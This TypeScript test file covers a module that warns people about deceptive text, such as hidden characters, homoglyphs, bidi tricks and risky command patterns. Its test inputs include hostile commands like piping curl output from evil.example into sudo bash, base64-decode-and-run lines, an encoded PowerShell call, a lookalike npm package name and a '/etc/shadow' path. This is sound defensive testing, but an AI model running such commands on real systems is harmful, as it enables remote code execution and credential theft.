import fc from 'fast-check';
import { describe, expect, test } from 'vitest';

import { choiceWarnings, rawJsonWarnings, textWarnings, warningsOf } from '../../src/human/index.js';
import { cpuTime } from '../helpers/cpu-time.js';

function kinds(text: string): readonly string[] {
  return textWarnings(text, '').map(({ kind }) => kind);
}

describe('warnings about a text', () => {
  test.for([
    ['control', 'git push\rgit pull'],
    ['control', 'a\u0007b'],
    ['control', 'a\u009b1K'],
    ['bidi', 'report\u202efdp.exe'],
    ['bidi', 'a\u2066b'],
    ['bidi', '\u05e9\u05dc\u05d5\u05dd/abc.txt'],
    ['invisible', 'na\u200bno'],
    ['invisible', 'ls\ufe0f -l'],
    ['invisible', 'a\u00a0b'],
    ['invisible', 'a\u2800b'],
    ['invisible', 'a\ue000b'],
    ['padding', `pwd${' '.repeat(200)}&& id`],
    ['padding', 'pwd\n\n\n\n\nid'],
    ['padding', `${' '.repeat(60)}id`],
    ['combining', `x${'\u0336'.repeat(3)}`],
    ['long', `echo ${'B'.repeat(5_000)}; id`],
    ['long', 'a\n'.repeat(100)],
    ['mixed-script', 'npm install l\u043edash'],
    ['mixed-script', 'rm \u0441\u043e\u0440\u0443 file'],
    ['lookalike-punctuation', 'ls \uff1b id'],
    ['lookalike-punctuation', 'rm \u2013rf build'],
    ['lookalike-punctuation', 'cat a\u2215b'],
    ['lookalike-punctuation', 'echo \u201cx\u201d'],
    ['lookalike-punctuation', 'first\nrm \u2014rf build'],
    ['non-ascii-digits', 'pay \u0661\u0662'],
    ['normalisation', 'cafe\u0301'],
    ['normalisation', '\uff52\uff4d -rf'],
    ['normalisation', '\u{1D42B}\u{1D426}'],
    ['substitution', 'echo $(id)'],
    ['substitution', 'echo `id`'],
    ['substitution', 'diff <(a) <(b)'],
    ['substitution', 'pay {{amount}}'],
    ['url-userinfo', 'curl https://google.com@evil.example/x'],
    ['url-userinfo', 'https:\\\\a:b@evil.example'],
    ['decode-and-run', 'echo aGk= | base64 -d | sh'],
    ['decode-and-run', 'curl -s https://evil.example/x | sudo bash'],
    ['decode-and-run', 'eval "$(echo aGk= | base64 -d)"'],
    ['decode-and-run', 'powershell -enc SQBFAFgA'],
  ] as const)('%s: %j', ([kind, text]) => {
    expect(kinds(text)).toContain(kind);
  });

  test.for([
    'git push origin main',
    'echo "don\'t" && ls -la | grep x',
    'Hello,\n\nthe meeting is at 10:00 \u2013 don\u2019t be late\u2026\n',
    'if x:\n            return 1\r\n',
    'Gr\u00fc\u00dfe aus Z\u00fcrich',
    '\u041f\u0440\u0438\u0432\u0435\u0442, \u043c\u0438\u0440',
    '\u4f7f\u7528npm\u5b89\u88c5\uff0c\u8c22\u8c22\uff01',
    '\u0928\u092e\u0938\u094d\u0924\u0947',
    'well done \u2764\ufe0f \u{1F468}\u200d\u{1F469}',
    'mail ann@example.com or https://example.com/@ann',
    'A `code` word\nin a longer text',
    '',
  ])('there are none about %j', (text) => {
    expect(textWarnings(text, '')).toEqual([]);
  });

  test('name the letters that deceive among Latin ones, and those that imitate ASCII', () => {
    expect(textWarnings('\u0430\u0440\u0440l\u0435', 'name')).toEqual([
      {
        kind: 'mixed-script',
        place: 'name',
        message:
          '“\u0430\u0440\u0440l\u0435” mixes alphabets: U+0430 is Cyrillic, U+0440 is Cyrillic, U+0435 is Cyrillic',
      },
    ]);
    expect(textWarnings('\uff52\uff4d', '')).toEqual([
      {
        kind: 'normalisation',
        place: '',
        message: 'letters that look like ASCII letters (2): U+FF52, U+FF4D',
      },
    ]);
  });

  test('a long key is told in a place by its beginning', () => {
    const [, ...found] = warningsOf({ ['k'.repeat(700)]: '\u200b' });
    expect(found).toEqual([expect.objectContaining({ kind: 'invisible', place: `"${'k'.repeat(40)}…"` })]);
  });

  test('name the code points, a few of them', () => {
    expect(textWarnings('l\u043edash', 'name')).toEqual([
      { kind: 'mixed-script', place: 'name', message: '“l\u043edash” mixes alphabets: U+043E is Cyrillic' },
    ]);
    expect(textWarnings('a\u0001\u0002\u0003\u0004\u0005\u0001', '')).toEqual([
      {
        kind: 'control',
        place: '',
        message: 'terminal control characters (6): U+0001, U+0002, U+0003, U+0004, …',
      },
    ]);
  });

  test('are safe for a terminal, and one of a kind', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const found = textWarnings(text, '');
        expect(new Set(found.map(({ kind }) => kind)).size).toBe(found.length);
        expect(found.filter(({ message }) => /[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Cn}]/u.test(message))).toEqual([]);
      }),
    );
  });

  test.for([
    ['spaces', '        .'],
    ['line breaks and spaces', '\n   \n'],
    ['words that fetch', 'tr base64 curl '],
    ['pipes', 'curl | '],
    ['letters of two scripts', 'a\u043e'],
    ['marks', 'x\u0301\u0301\u0301'],
    ['colons', 'a://b'],
    ['dots', ' . '],
    ['backticks', '`a'],
  ] as const)('take a time linear in the length: %s', ([, unit]) => {
    const text = unit.repeat(100_000);
    const start = cpuTime();
    textWarnings(text, '');
    // Some 0.2 s here; quadratic would be minutes.
    expect(cpuTime() - start).toBeLessThan(5_000);
  });
});

describe('warnings about a value', () => {
  test('name where they are, in texts, keys and numbers', () => {
    const value = {
      'a\u200b': 1,
      args: [{ name: 'x\u0007' }],
      'we ird': { big: 2 ** 60 },
      ok: [1.5, -3, null],
    };
    expect(warningsOf(value).map(({ kind, place }) => [kind, place])).toEqual([
      ['invisible', 'key'],
      ['control', 'args[1].name'],
      ['precision', '"we ird".big'],
    ]);
  });

  test('survive a value that is nested deeply', () => {
    let value: unknown = 'x';
    for (let depth = 0; depth < 5_000; depth += 1) value = [value];
    expect(warningsOf(value as never)).toEqual([]);
  });
});

describe('warnings about JSON as it was written', () => {
  test('tell of a key that is there twice, also where it is spelled in another way', () => {
    expect(rawJsonWarnings('{"path":"a.txt","path":"/etc/shadow"}').map(({ kind }) => kind)).toEqual([
      'duplicate-key',
    ]);
    expect(rawJsonWarnings('{"path":"a","p\\u0061th":"b"}').map(({ kind }) => kind)).toEqual([
      'duplicate-key',
    ]);
  });

  test('tell of numbers that are rounded', () => {
    expect(rawJsonWarnings('{"id":12345678901234567890}').map(({ kind }) => kind)).toEqual(['precision']);
    expect(rawJsonWarnings('{"amount":1.50,"n":1e2}')).toEqual([]);
  });

  test('say nothing about text that is refused anyway', () => {
    expect(rawJsonWarnings('{"a":')).toEqual([]);
  });
});

describe('warnings about choices', () => {
  test('tell of labels that look alike', () => {
    expect(choiceWarnings(['Delete', 'Keep', 'd\u0435lete ', 'de\u200blete'])).toEqual([
      { kind: 'ambiguous-choices', message: 'looks like choice 1', place: 'choice 3' },
      { kind: 'ambiguous-choices', message: 'looks like choice 1', place: 'choice 4' },
    ]);
  });

  test('tell of a label that shows nothing', () => {
    expect(choiceWarnings(['red', '\u200b'])).toEqual([
      { kind: 'ambiguous-choices', message: 'shows nothing', place: 'choice 2' },
    ]);
  });

  test('there are none about choices that differ', () => {
    expect(choiceWarnings(['Yes', 'No', 'Maybe'])).toEqual([]);
  });
});
